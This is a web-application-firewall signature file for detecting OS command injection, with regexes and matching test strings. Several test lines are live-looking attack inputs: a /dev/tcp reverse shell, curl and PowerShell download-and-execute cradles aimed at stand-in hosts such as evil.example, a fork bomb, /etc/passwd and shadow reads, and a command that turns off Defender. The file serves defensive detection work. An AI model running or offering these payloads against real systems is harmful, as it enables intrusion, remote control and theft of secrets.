# OS command injection, shell grammar (ids 300003100-300003199): a command word in a command
# position (start of the value or after a separator, behind the wrappers and quoting a shell
# ignores), shells and interpreters handed a command string, escapes from editors and debuggers,
# glob and brace expansion standing for paths and command lines, variables assembling a command.
# Format: see src/waf/signatures/db.rs. Pass examples are drawn from real traffic.

id: 300003100
name: OS command injection: system command right after a shell separator
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: ;
literal: |
literal: `
literal: $(
literal: &&
literal: \n
regex: (?:[;|`]|^[^\r\n]{0,100}[\r\n]|&&|\$\()\s*(?:['"\\]?(?:sudo|nohup|time|strace|ltrace|env|nice|setsid|xargs|timeout\s+\d+|busybox|command|exec|builtin)['"]?\s+)*['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:whoami|uname|ifconfig|netstat|nslookup|traceroute|chmod|chown|mkfifo|mknod|sysctl|lsof|getent|printenv|strace|ltrace|visudo|cscli|lastlog|lastlogin|lastb|ssh-copy-id|ssh-keygen|rmt|rmt-tar|rmt-dump|uconv|dmesg|journalctl|iptables|setenforce|aa-disable|aa-enforce|useradd|usermod|userdel|passwd|crontab|killall|pkill|xxd|hexdump|base32|base64|ncat|netcat|socat|telnet|tftp|busybox|wget|curl|ifup|ifdown|hostnamectl|systemctl|chattr|setfacl|getfacl|gdb|lldb|irb|jshell|tclsh|wish|expect|perf|pip[23x]?|ansible(?:-[a-z]+)?|chef-[a-z]+|knife|puppet|kubectl|docker|podman|crictl|nsenter|unshare|capsh|gcc(?:[\d.-]+)?|g\+\+|c89|c99|clang|objdump|readelf|ldd|nohup|sudo|su|bash|zsh|ksh|csh|tcsh|dash|sh|python[\d.]*|perl|ruby|php[\d.]*|lua|nmap|ping|mysql|psql|sqlite3|mongo|redis-cli)['"]?(?:$|[\s;|&<>`)]|\$\{?ifs|\.exe\b)
test: ;rmt --version
test: ;'rmt' --version
test: ;"curl" http://evil.com
test: ;gdb -nx -ex \\!whoami -ex quit
test: time; ansible-vault decrypt secret
test: ;irb<<<1+2
test: ;gcc10.1<<<void main(){}
test: ;c89 -wrapper sh,-c,id .
test: ;lastlog -u root
test: ; ssh-copy-id user@server
test: |base32 -d
pass: mammal;cat;ears
pass: Tom & Jerry; two cats
pass: Accept: text/html;q=0.9
pass: \n query PostComments($postId: ID!) {\n edges {\n node {\n id

id: 300003101
name: OS command injection: common command with shell arguments after a separator
type: OS Command Injection
accuracy: medium
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: ;
literal: |
literal: `
literal: $(
literal: &&
literal: \n
regex: (?:[;|`]|^[^\r\n]{0,100}[\r\n]|&&|\$\()\s*(?:['"\\]?(?:sudo|nohup|time|strace|env|nice|xargs|timeout\s+\d+|busybox)['"]?\s+)*['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:cat|tac|nl|od|more|less|head|tail|ls|ll|dir|id|pwd|env|ps|top|echo|printf|sleep|usleep|touch|mv|cp|rm|kill|find|sort|tr|cut|split|paste|join|comm|column|fold|fmt|bridge|watch|timeout|time|nice|file|stat|ln|which|whereis|locate|history|alias|source|eval|exec|export|set|unset|trap|w|who|users|groups|date|cal|df|du|free|mount|umount|dd|tar|zip|unzip|gzip|grep|egrep|awk|sed|tee|strings|vi|vim|ex|view|nano|emacs|make|install|rsync|scp|ssh|sftp|ftp|git|svn|npm|npx|yarn|gem|cargo|go|apt|apt-get|yum|dnf|rpm|dpkg|apk|snap|brew|service|reboot|shutdown|halt|poweroff|init|chroot|batch|rc|uptime|hostname|host|dig|whois|route|arp|ip|ss|env|openssl|mail|wall|write|finger|screen|tmux|nc|test)['"]?(?:\s+(?:-{1,2}[\w=.-]*|[/~.$*'"<>{(`\\]|\d|[\w.-]+\s*(?:[;|&`<>\\]|$)|[\w.@:-]+/)|\s*$|\s*[|`)]|\s*[<>]{1,2}\s*&?[\w./~${}-]*(?:\s|$|[;|&`)<>])|\$\{?ifs)
test: ;c$!at /et$!c/pas$!swd
test: ;c$-at /et$-c/pas$-swd
test: ;top
test: code=cd /;cd etc;column passwd
test: ; cat /etc/passwd
test: |ls -la
test: ;date -f secrets.txt
test: ;$a cat test.txt
test: &&cp /var/log/apache2/error.log evil.php
pass: mammal;cat;ears
pass: a heroine; more than that
pass: Rock & Roll; time after time
test: ;id>/tmp/out
test: |w>x;
pass: text/html;q=0.9,*/*;q=0.8
# A redirection names a file: a word, then the end or a shell boundary. In an anti-bot sensor
# blob `;w>` is random punctuation around a letter, followed by more of the same.
pass: >=mN@RY~UT`.An!dcB%l;w>szx#)7X7KQ=.8e3]g!?0

id: 300003102
name: OS command injection: command line at the start of a value
type: OS Command Injection
accuracy: medium
risk: high
systems: Unix/Linux
targets: @values, header, param-name
unless: binary, url
literal: -
literal: /
literal: ~
literal: <
literal: >
literal: |
literal: $
literal: aa-
literal: ansible
literal: chef-
literal: visudo
literal: cscli
literal: lastlog
literal: uconv
literal: ssh-copy-id
literal: rmt
literal: setenforce
literal: ifconfig
literal: ipconfig
literal: netstat
literal: whoami
literal: uname
literal: sudo
literal: nohup
literal: time
literal: strace
literal: setsid
literal: curl
literal: wget
literal: nc
literal: telnet
literal: ping
literal: nslookup
literal: dig
literal: ssh
literal: ftp
literal: traceroute
literal: ip
regex: ^\s*(?:['"\\]?(?:sudo|nohup|time|strace|ltrace|env|nice|setsid|xargs|timeout\s+\d+)['"]?\s+)*['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:cat|tac|nl|od|head|tail|ls|ll|dir|ps|echo|printf|touch|mv|cp|rm|kill|find|sort|cut|stat|ln|which|whereis|locate|df|du|free|mount|dd|tar|zip|unzip|gzip|grep|egrep|awk|sed|tee|strings|chmod|chown|whoami|uname|ifconfig|netstat|nslookup|ping|traceroute|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|csh|dash|python[\d.]*|perl|ruby|php|node|gcc|c89|c99|gdb|vim?|ex|base32|base64|xxd|openssl|ssh|scp|rsync|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|aa-disable|aa-enforce|strace|nohup|visudo|cscli|lastlog|uconv|pip[23x]?|systemctl|service|crontab|useradd|passwd|env|date|time|perf|mysql|psql|sqlite3|docker|kubectl)['"]?\s+(?:-{1,2}[a-z][\w=-]*(?:\s|$)|(?:/|~/|\./|\.\./)[\w./*?-]|[\w./-]*\s*[<>|]|\$\{?\w|\*)|^\s*(?:['"\\]?(?:sudo|nohup|time|strace|ltrace|env|nice|setsid|xargs|timeout\s+\d+)['"]?\s+)*['"\\]?(?:aa-disable|aa-enforce|ansible(?:-[a-z]+)?|chef-[a-z]+|visudo|cscli|lastlog|uconv|ssh-copy-id|rmt|setenforce|ifconfig|ipconfig|netstat|whoami|uname)\b['"]?\s+\S|^\s*(?:['"\\]?(?:sudo|nohup|time|strace|ltrace|env|nice|setsid|xargs|timeout\s+\d+)['"]?\s+)*['"\\]?(?:ifconfig|ipconfig|netstat|visudo|cscli|ansible-[a-z]+|chef-[a-z]+)['"]?\s*$|^\s*(?:['"\\]?(?:sudo|nohup|time|strace|ltrace|setsid|timeout\s+\d+)['"]?\s+)+['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:who|w|id|ls|ps|whoami|uname|hostname|uptime|pwd|ifconfig|ipconfig|netstat|curl|wget|nc|ncat|ping|nslookup|dig|bash|sh|python[\d.]*|perl|php|ruby|node|env|lsof|ss|ip|cat|head|tail|find|rm|chmod|touch)['"]?(?:\s*$|\s+[\w./:@-]*[./:@][\w./:@-]*)|^\s*(?:['"\\]?(?:sudo|nohup|time|strace|ltrace|env|nice|setsid|xargs|timeout\s+\d+)['"]?\s+)*['"\\]?(?:curl|wget|nc|ncat|telnet|ping|nslookup|dig|ssh|ftp|tftp|traceroute)['"]?\s+(?:-{1,2}[a-z][\w=-]*\s+)*(?:[a-z]+://|localhost\b|\d{1,3}(?:\.\d{1,3}){3}\b|[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}(?:$|[\s/:]))|^\s*(?:['"\\]?(?:sudo|nohup|time|strace|ltrace|env|nice|setsid|xargs|timeout\s+\d+)['"]?\s+)*['"\\]?ip['"]?\s+(?:a|addr|r|route|link|neigh|-[46])(?:\s*$|\s+(?:show|list|add|del|s)\b)
test: ls -la /tmp
test: find /etc -name passwd -exec cat {} +
test: uconv -f utf-8 -t utf-8 /etc/?asswd
test: aa-disable php-fpm
test: ansible-playbook site.yml
test: cat /etc/passwd
test: ifconfig
test: nohup ifconfig
test: 'strace' uname -a
test: time who
test: "time" id
test: sudo ls /root
test: perf --version
test: env --version
test: wget intranet.example/x.sh
test: curl localhost
test: "nc" 10.0.0.5 4444
test: ping -c 3 198.51.100.7
test: ip addr
test: ip r show
test: sudo visudo
pass: base64
pass: uname
pass: cat videos for kids
pass: time -- the movie
pass: find -- the best deals
pass: echo dot show
pass: time to say goodbye
pass: nice cat pictures
pass: ping me when you are back.
pass: curl up with a good book
pass: ip address lookup
pass: time who knows what
pass: sudo make me a sandwich

id: 300003103
name: OS command injection: shell or interpreter handed a command string
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: sh
literal: -c
literal: <<<
literal: -wrapper
literal: -e
literal: $shell
literal: ${shell
regex: \b(?:ba|z|k|c|tc|da|fi|a|r?ba)?sh(?:\.exe)?['"]?\s+(?:-[a-z]*c\b|-[a-z]*i\b\s*[>&<]|-s\b\s*<)|\$\{?shell\}?\s+-c\b|\b(?:python[\d.]*|perl|ruby|php[\d.]*|node|lua|awk|gawk)['"]?\s+-[a-z]*[ecrn]\s*['"]|\w<<<\s*\S|-wrapper\s+\S*?(?:sh|bash|python|perl)\s*,|\b(?:gcc|cc|c89|c99|clang)[\d.]*\s[^;|&]{0,40}-wrapper\b
test: ksh -c "curl google.com"
test: $SHELL -c "echo hi"
test: c99 -wrapper sh,-c,curl google.com .
test: irb<<<1+2
test: bash -i >& /dev/tcp/10.0.0.1/8080 0>&1
test: perl -e 'print 1'
pass: sh -- the sound of silence
pass: Wash -c model

id: 300003104
name: OS command injection: escape from an editor, pager or debugger to a shell
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: !
literal: -exec
literal: system(
literal: -ex
literal: checkpoint
literal: compress-program
literal: unzip-command
literal: to-command
regex: \b(?:vim?|nvim|ex|view|rvim|gdb|lldb|less|more|man|ftp|sftp|mysql|psql|sqlite3|nmap|git|tar|zip|awk|gawk)\b[^;|&\n]{0,60}?(?:\s|['"]|\\|:|\+)(?:silent\\*\s*)?\\*!\s*\w|\bfind\s+\S[^;|&\n]{0,80}?-(?:exec|execdir|ok)\s+\S|\bawk\s+['"][^'"]{0,80}\bsystem\s*\(|\bgdb\s[^;|&\n]{0,60}-ex\s|\b(?:tar|zip)\s[^;|&\n]{0,60}--?(?:checkpoint-action=exec|use-compress-program|unzip-command|to-command)\b
test: vim -c:\\!pwd
test: vim dddd +silent\\ \\!whoami +wq
test: gdb -nx -ex \\!whoami -ex quit
test: find /etc -name passwd -exec cat {} +
test: awk 'BEGIN {system("id")}'
test: tar -cf /dev/null x --checkpoint-action=exec=sh
pass: less is more! really
pass: find the exit! now

id: 300003105
name: OS command injection: glob wildcards standing for a command or path
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary, url
literal: ?
literal: *
regex: (?:^|[\s;|&'"(=<>`{,])(?:/[\w.-]*[*?][\w.*?-]*){2,}|(?:^|[\s;|&'"(=<>`])/[\w.*?-]*[?*][\w.*?-]*/(?:[\w.-]*/)*(?:pass|passwd|shadow|hosts|issue|group|id_rsa|[\w]*[?*][\w?*]*)\b|(?:^|[\s;|&'"(=<>`])/(?:s?bin|etc|proc|dev|usr|tmp|var)/[\w.-]*[?*]|(?:^|[\s;|&'"(=<>`])/(?:s?bin|etc|proc|dev|usr|tmp|var)/(?:[\w.-]+/)+[\w-]+[?*][\w-]*(?:$|[\s;|&`)])|(?:^|[\s;|&`])(?:c[?*]t|ca[?*]|[?*]at|wh[?*]ami|[?*]d)\s+/
test: /bin/ca? /et*/passwd
test: a;/usr/bin/wh?ami
test: /???/??t /???/p??s??
test: {/?s?/?i?/c?t,/e??/p??s??,}
test: uconv -f utf-8 /etc/?asswd
pass: https://example.com/search?q=*&page=2
pass: what? why? how?
pass: /api/v1/items?id=5
pass: src=/usr/share/js/app.js?v=2
pass: f=/var/www/page?lang=en

id: 300003106
name: OS command injection: brace expansion of a command line
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: {
regex: \{\s*,|\{[^{}:"\s]*,\s*(?:/[\w?*]|\$['"]|-[a-z])|\{(?:cat|ls|id|echo|cd|wget|curl|nc|bash|sh|ping|rm|whoami|uname|cp|mv|touch|chmod|python\d?|perl|php|sleep|find|base64),[^}]*\}|[{,]\s*\$['"]\w+['"]\s*[,}]
test: {,echo,#test}
test: {,cd,/etc,}
test: {,$'whoami',}
test: {cat,/etc/passwd}
test: {ls,-la}
pass: {"login_hint":"M$Ei54nON4OvXuy0f7mn","aio":"DTsvSATMyDK*yZnRFYk*cGPO2z$"}
pass: {"a":1,"b":[1,2]}
pass: {a, b, c}

id: 300003107
name: OS command injection: variables assembling a command
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: $
regex: (?-i:(?:\$\{?[a-z_][a-z0-9_]{0,7}\}?){3,})(?:[\s;|&/'"<>]|$)|(?:^|[;&|\s])[a-z_]\w*=['"]?(?:/[\w./]+|[a-z][\w.-]*|\\\s|`[^`]+`)['"]?\s*&&\s*[a-z_]\w*=|(?:[;&|`]|&&|\$\()\s*\$\{?[a-z_]\w*\}?\s+[\w./$-]|\$\(\(\s*[^)]*\)\)|\$\{\w*:?[#%/^,]{1,2}[^}]*\}
test: c4=\\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4
test: a=curl&&b=`whoami`&&$a attacker.net/$b
test: a=/etc&&b=/passwd&&c=cat&&$c $a$b
test: $((7))z -wrapper sh
test: ;$a cat test.txt
pass: price=$10.99 each
pass: iHrCbZnNhecB$CtO$ipM$jmJjp0m-OJCZEp
pass: console.cloud.tencent.com$$/vpc/subnet$$?rid%3D9
pass: $2b$12$KIXQJ2z8dNqUYzq1fUcQIe
pass: user=admin;lang=en
pass: ***$;timestamp=1688383695816;from_type=server;track=209e824a-63cb;$***

id: 300003108
name: OS command injection: function definition and fork bomb
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @all
unless: binary
literal: (
regex: ^\s*\(\s*\)\s*\{|:\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}|\b[a-z_][\w-]*\s*\(\s*\)\s+\{\s*[^}]*?\|\s*[^}]*?&\s*\}
test: () {
test: :(){ :|:& };:
test: test() { test | test & } test
pass: function(){try{e(document.querySelector("div"))}catch(e){}}
pass: () => x

id: 300003109
name: Command execution: more Windows commands and shell constructs
type: Command Execution
accuracy: high
risk: high
systems: Microsoft Windows
targets: @values, header, url, param-name
unless: binary
literal: regedit
literal: schtasks
literal: bcdedit
literal: vssadmin
literal: wevtutil
literal: icacls
literal: takeown
literal: netsh
literal: sc
literal: at
literal: for
literal: if
literal: start
literal: msiexec
literal: forfiles
literal: hkey_
literal: hklm
literal: hkcu
literal: cscript
literal: wscript
literal: mshta
literal: rundll32
literal: net
literal: powershell
literal: findstr
literal: get-
literal: set-
literal: new-
literal: remove-
literal: invoke-
literal: start-
literal: stop-
literal: out-
literal: select-
literal: where-
literal: write-
literal: import-
literal: add-
regex: \bregedit(?:\.exe)?\s+/[a-z]|\bschtasks(?:\.exe)?\s+/|\bbcdedit\b|\bvssadmin\s+(?:delete|list|create)\b|\bwevtutil\s+c[lr]\b|\bicacls\s+\S|\btakeown\s+/|\bnetsh\s+(?:firewall|advfirewall|interface|wlan|winhttp)\b|(?:^|[;&|])\s*sc(?:\.exe)?\s+(?:create|config|start|stop|query|delete)\b|[;&|]\s*at\s+\d{1,2}:\d{2}\b|\bfor\s+/[flrd]\s|\bif\s+(?:not\s+)?exist\s|(?:^|[;&|])\s*start\s+(?:/b\s+)?[\w\\:."]+\.(?:exe|bat|cmd|ps1|vbs)\b|\bmsiexec\s+/[iqy]|\bforfiles\s+/|\b(?:hkey_(?:local_machine|current_user|classes_root|users)|hklm|hkcu)\\\w|\b(?:cscript|wscript|mshta|rundll32)(?:\.exe)?\s|\bnet1?\s+(?:user|localgroup|group|share|use|accounts|config)\s+\S|\bfindstr\s+/[a-z]|(?:^|[;&|\n])\s*(?:get|set|new|remove|invoke|start|stop|out|select|where|write|import|add)-(?:process|service|childitem|content|item|itemproperty|wmiobject|ciminstance|acl|localuser|localgroupmember|netipaddress|executionpolicy|mppreference|webrequest|restmethod|expression|command|credential|psdrive|scheduledtask|clipboard|computerinfo|eventlog)\b
test: ; regedit /E c:\\ads\\file.txt:regfile.reg HKEY_CURRENT_USER\\MyCustomRegKey
test: ;at 2:00 "echo test"
test: for /f %i in ('dir') do echo %i
test: schtasks /create /tn x /tr calc.exe
test: | Get-Process
test: ;Set-MpPreference -DisableRealtimeMonitoring $true
pass: Tom & Jerry; get-together at noon
pass: at 2:00 pm we meet
pass: start the engine

id: 300003110
name: OS command injection: shell features that run a stored command (alias, history expansion, a variable holding a command, SQLite shell escapes)
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, param-name
unless: binary, url
literal: alias
literal: !
literal: .system
literal: .shell
literal: $
# `^old^new` repeats the last command with `old` replaced.
literal: ^
regex: (?:^|[;&|\n`(])\s*alias\s+[\w.-]+=['"]?[\w./$-]|(?:^|[;&|\n`])\s*!(?:(?:!|-?\d{1,4}|\?[^?\s]{1,32}\?)(?::[\w/$^*&.-]+)*|[a-z][\w.-]{0,31}(?::[\w/$^*&.-]+)+)\s*(?:$|[;&|\n])|(?:^|[;&|\n])\s*\^[\w./-]{0,31}[a-z][\w./-]{0,31}\^[\w./-]{0,32}\^?\s*(?:$|[;&|\n])|(?:^|[\n;&|])\s*\.(?:system|shell)\s+\S|(?:^|[;&|\n])\s*\$?[a-z_]\w{0,15}=['"]?[\w./-]+['"]?\s*;\s*\$\{?[a-z_]\w{0,15}\}?\s*(?:$|[\s;|&])
test: alias a=cat; a /etc/passwd
test: ;alias x='id';x
test: !-2
test: !!
test: !!:s/a/b/
test: !?passwd?
test: !cat:s/passwd/shadow/
test: ;!vi:p
test: ^passwd^shadow
pass: !Hello
pass: 2^10^
pass: ^_^
test: ;!12
test: .system id
test: x;.system id
test: x\n.shell cat /etc/passwd
test: $u=id;$u
test: ;c=whoami;${c}
pass: !important
pass: Hello!! 2 years later!
pass: a=1;b=2
pass: .shell-panel { color: red }
pass: the alias of the user is bob
pass: price=$10;$20 later


id: 300003111
name: OS command injection: a value that is a program in a system binary directory
# The whole value names an executable by its path (`/bin/ab`, `bin/visudo`, `/usr/local/bin/x -v`):
# the command position of a field passed to a shell. Any program, not a list of known ones; a
# path going deeper (`bin/Debug/app.dll`) or `cgi-bin/` is not one.
type: OS Command Injection
accuracy: medium
risk: high
systems: Unix/Linux
targets: @values, header, param-name
unless: binary
literal: bin/
regex: ^\s*['"]?/?(?:usr/(?:local/)?)?s?bin/[\w.+-]+['"]?(?:\s|$)
test: /bin/ab
test: bin/ansible
test: /usr/local/bin/node -e 1
test: '/sbin/reboot'
pass: /cgi-bin/test.cgi
pass: bin/Debug/app.dll
pass: https://example.com/bin/app
pass: recycle bin/trash

id: 300003112
name: PowerShell download cradle: fetched or decoded text handed to Invoke-Expression
# The Windows download-and-execute idiom: a web request (`iwr`, `irm`, `Net.WebClient`,
# `curl`/`wget` aliases) or decoded base64 piped into or wrapped by `iex`; and the launcher
# switches that hide it (`-enc`, `-w hidden`, `-ep bypass`). The pipe into `iex` is the
# execution step whatever produced the text.
type: OS Command Injection
accuracy: high
risk: high
systems: Microsoft Windows
targets: @values, header, url, param-name
unless: binary
literal: iex
literal: invoke-expression
literal: webclient
literal: frombase64string
literal: powershell
literal: pwsh
regex: \|\s*(?:&\s*)?(?:iex|invoke-expression)\b|\b(?:iex|invoke-expression)\s*\(?\s*\(?\s*(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object|\[(?:system\.)?(?:text\.encoding|convert)\])|\bnew-object\s+(?:-typename\s+)?(?:system\.)?net\.webclient\b|\[(?:system\.)?convert\]::frombase64string\s*\(|\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]{0,80}\s[-/](?:e|ec|enc|encodedcommand|w\s+hidden|windowstyle\s+hidden|nop|noprofile|ep\s+bypass|exec\s+bypass|executionpolicy\s+bypass|c|command)\b
test: iwr http://evil.example/a.ps1 | iex
test: irm https://evil.example/x|iex
test: IEX (iwr 'http://evil.example/p.ps1' -UseBasicParsing)
test: (New-Object Net.WebClient).DownloadString('http://evil.example/a')|IEX
test: powershell -nop -w hidden -enc SQBFAFgA
test: pwsh.exe -ExecutionPolicy Bypass -File x.ps1
test: [System.Convert]::FromBase64String('SQBFAFgA')
pass: powershell tutorial for beginners
pass: How to use Invoke-Expression safely
pass: iex index fund
pass: pwsh 7.4 release notes

id: 300003301
name: OS command injection: directory change chained to another command
type: OS Command Injection
accuracy: medium
risk: high
systems: Unix/Linux
# `cd /;cd etc;comm passwd passwd`: moving to a directory first lets the next commands name files
# by short relative names that no path signature knows. A `cd` to a path followed by a separator
# and another word is a shell line; prose writes "CD" before a noun, not before a path and `;`.
targets: @values, header, param-name
unless: binary, url
literal: cd 
literal: cd\t
literal: cd$
regex: (?:^|[;|&`\n(]|\$\()\s*cd(?:\s+|\$\{?ifs\}?)(?:/|~|\.\.?(?:/|\s|;|&|\|)|[\w.-]*/)[\w./~-]*\s*(?:;|&&|\|\|?|\n)\s*['"\\]?[a-z]
test: cd /;cd etc;comm passwd passwd
test: ;cd /tmp && wget x
test: cd ../../;ls
test: $(cd ~;ls)
pass: CD/DVD drive; fast shipping
pass: my cd player; it works
pass: cd music/ and dvd

id: 300003302
name: OS command injection: process substitution
type: OS Command Injection
accuracy: medium
risk: high
systems: Unix/Linux
# `<(cmd)` and `>(cmd)` run a command wherever bash expects a file name (`diff <(id) x`,
# `cat<(id)`); outside a shell, a bracket straight after `<` or `>` holds a number or an emoticon,
# not a word and its arguments.
targets: @values, header, param-name
unless: binary, url
literal: <(
literal: >(
regex: (?:^|[\s;|&=`\w])[<>]\(\s*['"\\]?[a-z][\w./-]*['"]?(?:\s+[^()\r\n+*=<>]{0,100})?\)
test: <(id)
test: cat<(cat /etc/passwd)
test: diff <(ls /root) x
test: tee >(sh)
pass: price >(10)
pass: I <3 you :-<(
pass: a >(b + c) * 2

id: 300003401
name: OS command injection: an option that makes an archiver or a file tool run a command
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
# Applications that hand a name to `zip`, `tar`, `rsync`, `ssh` or `git` as an argument (archive
# and sync features of file managers) run what an option names when the name starts with `-`:
# zip's `-TT=` (`--unzip-command`, grouped with other flags as `-TvTT=`), tar's
# `--checkpoint-action=exec=`, `--use-compress-program`, `--to-command`, `--rsh-command`,
# `--info-script`, rsync's `--rsh=`/`-e`, ssh's `-oProxyCommand=`, git's `--upload-pack=`.
targets: @values, param-name
unless: binary, url
literal: tt=
literal: unzip-command
literal: checkpoint-action
literal: compress-program
literal: to-command
literal: rsh-command
literal: info-script
literal: volume-script
literal: --rsh
literal: proxycommand
literal: localcommand
literal: upload-pack
literal: receive-pack
regex: (?:^|\s)-[a-z]*tt=\S|(?:^|\s)--(?:unzip-command|checkpoint-action\s*=\s*exec|use-compress-program|to-command|rsh-command|info-script|new-volume-script|rsh|upload-pack|receive-pack)\s*=\s*\S|(?:^|\s)-o\s*(?:proxy|local)command\s*=
test: -TvTT=id>shell.php # a.zip
test: -TT=sh x.zip
test: --checkpoint-action=exec=sh shell.sh
test: x --use-compress-program=id
test: -oProxyCommand=curl evil.example|sh
test: --upload-pack=touch /tmp/pwn
pass: butt=1
pass: settings --title=report
pass: the ATT=1 rule

id: 300003701
name: Command execution: PowerShell alias or environment drive as the command after a separator
# PowerShell's built-in aliases run cmdlets under short names a filter for `Invoke-Expression`
# or `Get-ChildItem` does not see: `iex`, `iwr`, `irm`, `icm`, `gci`, `gcm`, `gwmi`, `ipmo`,
# `saps`, `spps`, `sal` (which defines another alias), and `env:` is the drive holding the
# environment. Only in a command position, after `;`, `|`, `&` or `$(`: the names are short.
# The names are the literals, not the separators: `;` and `&` are in every User-Agent and query
# string, and would wake the regex on each.
type: Command Execution
accuracy: high
risk: high
systems: Microsoft Windows
targets: @values, header, url, param-name
unless: binary, url
literal: iex
literal: iwr
literal: irm
literal: icm
literal: gci
literal: gcm
literal: gwmi
literal: ipmo
literal: saps
literal: spps
literal: sal
literal: gps
literal: gsv
literal: env:
# A pipeline stage filtering or looping with a script block over `$_`, the current object
# (`| ? {$_.name -eq 'x'}`, `| % {$_}`), is PowerShell's grammar, not a shell's or prose.
literal: $_
regex: (?:[;|&]|\$\()\s*(?:(?:iex|iwr|irm|icm|gci|gcm|gwmi|ipmo|saps|spps|gps|gsv)(?:\s|$|[;|&()])|sal\s+[\w-]+\s+[\w-]|(?:ls|dir|gci|gc|type|cat|get-childitem|get-content)\s+env:)|^\s*(?:ls|dir|gci|gc|type|cat|get-childitem|get-content)\s+env:|\|\s*(?:\?|%|where|foreach)\s*\{[^}]{0,100}\$_
test: ;gci env:
test: | sal x iex
test: ;gcm *
test: | iwr http://evil.example/x
test: && iex (gc x.ps1)
test: ; ls env:
test: gci env: | fl
test: & gps | ? {$_.name -eq 'lsass'}
test: x | % { $_.Kill() }
pass: Use $_ in PHP? No, $_GET
pass: gps tracker | price
pass: app=4qgthszz-efopzl8g&cp=none&de=4&seq=1688376436584
pass: ;route_index_index_a20221020wzjwhb_newsdetail
pass: text/html;q=0.9,*/*;q=0.8

id: 300003702
name: OS command injection: the shell itself named by a variable as the command
# `$0` holds the running shell's name and `$SHELL`, `$BASH` a shell's path: after a separator they
# start a shell without the word `sh` or `bash` appearing (`;$0 -c id`, `|${SHELL} -i`).
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, url, param-name
unless: binary
literal: $0
literal: ${0}
literal: $shell
literal: ${shell}
literal: $bash
literal: ${bash}
regex: (?:^|[;|&`\n]|\$\()\s*\$(?:0|\{0\}|shell\b|\{shell\}|bash\b|\{bash\})(?:\s|$|[;|&`)<>])
test: ;$0 -c id
test: |${SHELL} -i
test: $($BASH -c 'id')
test: a&&$0<<<id
# Random sensor tokens hold `$0` glued to letters and digits.
pass: -Q44cSSbncyVICfeyQl$zTMYAMKJgUaP65Yp582saf0vwdznDlSNV$AKVyZy$0GGYH9ju3YXH$pHU$$dp0QBui2P
pass: price $0 after coupon

id: 300003703
name: OS command injection: a command word right after a separator that opens the value
# Text does not start with `;` or `|`: a value that does, followed by a command word and then a
# blank or its end, is a command appended to whatever the application puts before it
# (`;top Something`), whatever follows the word. Inside a value the same words after a
# separator need shell-shaped arguments (300003101); here the opening separator is the proof.
type: OS Command Injection
accuracy: high
risk: high
systems: Unix/Linux
targets: @values, header, param-name
unless: binary
literal: ;
literal: |
literal: &&
regex: ^\s*['"]?\s*(?:[;|]|&&)\s*['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:cat|tac|nl|od|more|less|head|tail|ls|ll|dir|id|pwd|env|ps|top|htop|echo|printf|sleep|touch|mv|cp|rm|kill|find|sort|tr|cut|split|paste|join|column|watch|timeout|time|nice|file|stat|ln|which|whereis|locate|history|alias|source|eval|exec|export|set|unset|w|who|whoami|uname|users|groups|date|df|du|free|mount|umount|dd|tar|zip|unzip|gzip|grep|egrep|awk|sed|tee|strings|vi|vim|nano|make|install|rsync|scp|ssh|ftp|git|npm|pip[23x]?|gem|apt|apt-get|yum|dnf|rpm|service|reboot|shutdown|halt|poweroff|init|rc|uptime|hostname|dig|whois|route|arp|ip|ifconfig|netstat|nc|ncat|telnet|wget|curl|ping|nslookup|openssl|mail|wall|chmod|chown|crontab|passwd|sudo|su|bash|sh|zsh|python[\d.]*|perl|ruby|php|node|chef|knife|puppet|ansible|docker|kubectl|systemctl)['"]?(?:\s|$)
test: ;top Something else 1
test: | ls
test: ;"id"
test: && wall We are going down
test: |/usr/bin/top -b
# Real values open with a separator too, followed by a name or a list of flags.
pass: ;route_index_index_a20221020wzjwhb_newsdetail
pass: |L:-1|IP:f|IPC:CN
pass: ||s|
pass: |||||||||||||||||||||||||||||||2159

id: 300003704
name: File upload: stored under the name of a kernel interface file or a shell history
# An upload stored under a name the system reads itself (`/proc`'s `cpuinfo`, `kcore`,
# `sysrq-trigger`, ...) or a user's history and credential files (`.bash_history`, `.pgpass`,
# `.my.cnf`, `.rhosts`) overwrites or plants what a later command trusts; no document is named
# that way. Configuration and web-server files have their own signature.
type: OS Command Injection
accuracy: high
risk: high
targets: filename
unless: binary
literal: acpi
literal: asound
literal: buddyinfo
literal: cgroups
literal: cmdline
literal: cpuinfo
literal: diskstats
literal: execdomains
literal: filesystems
literal: iomem
literal: ioports
literal: kallsyms
literal: kcore
literal: kmsg
literal: kpage
literal: loadavg
literal: mdstat
literal: meminfo
literal: mtrr
literal: pagetypeinfo
literal: sched
literal: slabinfo
literal: softirqs
literal: sysrq-trigger
literal: sysvipc
literal: timer_
literal: vmallocinfo
literal: vmstat
literal: zoneinfo
literal: history
literal: .pgpass
literal: .my.cnf
literal: .rhosts
literal: .forward
literal: .xauthority
literal: .google_authenticator
literal: .viminfo
